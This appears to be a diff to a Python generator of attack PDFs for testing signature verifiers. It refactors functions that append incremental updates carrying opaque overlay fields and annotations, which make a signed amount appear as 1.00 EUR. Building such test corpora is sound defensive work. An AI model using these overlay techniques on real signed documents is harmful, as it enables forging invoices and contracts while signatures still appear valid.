@@ -21,8 +21,11 @@ The families are those of the published attacks:
 plus form (new fields presented as form filling), docmdp (P=1/P=2/P=3 violations), cert-usage (EKU) and
 benign controls that a verifier must let through.
 
-Every attack is an incremental update appended to a correctly signed file (classic xref unless the base
-uses an xref stream: then the update does too), written with pyHanko's IncrementalPdfFileWriter where
+The unsigned bases are written as raw PDF (not with reportlab): the attacks need an exact object layout
+(a hidden optional content group, a page outside the page tree, /Info shared with the page resources, an
+empty signature field). Every attack is an incremental update appended to a correctly signed file
+(classic xref unless the base uses an xref stream: then the update does too; usf builds the signature
+itself, swa rewrites the signed file's layout), written with pyHanko's IncrementalPdfFileWriter where
 pyHanko writes it, and with raw bytes (append_update) where it does not. An attack whose precondition is
 missing in a base (no optional content group, no /Info shared with a resource dictionary...) is skipped
 for that base, so any sealbatch-sealed file can be a base.
@@ -468,16 +471,12 @@ NEW_TEXT = b'BT /FX 14 Tf 72 720 Td (Amount due: 99,000.00 EUR) Tj ET BT /FX 12 
 OWN_FONT = b'<< /Font << /FX << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>'
 
 
-def overlay_ap(doc: Doc, w=220, h=40, text=b'Amount due: 1.00 EUR') -> int:
+def overlay_ap(doc: Doc, objs: dict, w=220, h=40, text=b'Amount due: 1.00 EUR') -> int:
+    """A new opaque appearance stream (white box + text) in objs; returns its object number."""
     n = doc.alloc()
-    doc._pending[n] = stream(b'/Type /XObject /Subtype /Form /BBox [0 0 %d %d] /Resources ' % (w, h) + OWN_FONT,
+    objs[n] = stream(b'/Type /XObject /Subtype /Form /BBox [0 0 %d %d] /Resources ' % (w, h) + OWN_FONT,
                              b'1 1 1 rg 0 0 %d %d re f 0 0 0 rg BT /FX 14 Tf 2 %d Td (%s) Tj ET' % (w, h, h // 2 - 5, text))
     return n
-
-
-def with_pending(doc: Doc):
-    doc._pending = {}
-    return doc._pending
 
 
 def add_to_page_annots(doc: Doc, objs: dict, nums: list):
@@ -646,8 +645,8 @@ def a_kids_to_hidden(doc: Doc):
 
 
 def a_new_text_field(doc: Doc):
-    objs = with_pending(doc)
-    ap = overlay_ap(doc)
+    objs = {}
+    ap = overlay_ap(doc, objs)
     fld = doc.alloc()
     objs[fld] = (b'<< /Type /Annot /Subtype /Widget /FT /Tx /T (Remark) /V (Amount due: 1.00 EUR) /DA (/Helv 14 Tf 0 g) '
                  b'/Rect [70 712 290 752] /F 4 /P %d 0 R /AP << /N %d 0 R >> >>' % (doc.page_num, ap))
@@ -657,8 +656,8 @@ def a_new_text_field(doc: Doc):
 
 
 def annotation(doc: Doc, subtype: bytes, extra=b'') -> bytes:
-    objs = with_pending(doc)
-    ap = overlay_ap(doc)
+    objs = {}
+    ap = overlay_ap(doc, objs)
     a = doc.alloc()
     objs[a] = (b'<< /Type /Annot /Subtype /%s /Rect [70 712 290 752] /F 4 /P %d 0 R /AP << /N %d 0 R >> %s >>'
                % (subtype, doc.page_num, ap, extra))
@@ -687,8 +686,8 @@ def a_sticky_note(doc: Doc):
 
 
 def a_ssa(doc: Doc):
-    objs = with_pending(doc)
-    ap = overlay_ap(doc)
+    objs = {}
+    ap = overlay_ap(doc, objs)
     fld = doc.alloc()
     objs[fld] = (b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sneaky) /Rect [70 712 290 752] /F 4 /P %d 0 R '
                  b'/AP << /N %d 0 R >> >>' % (doc.page_num, ap))
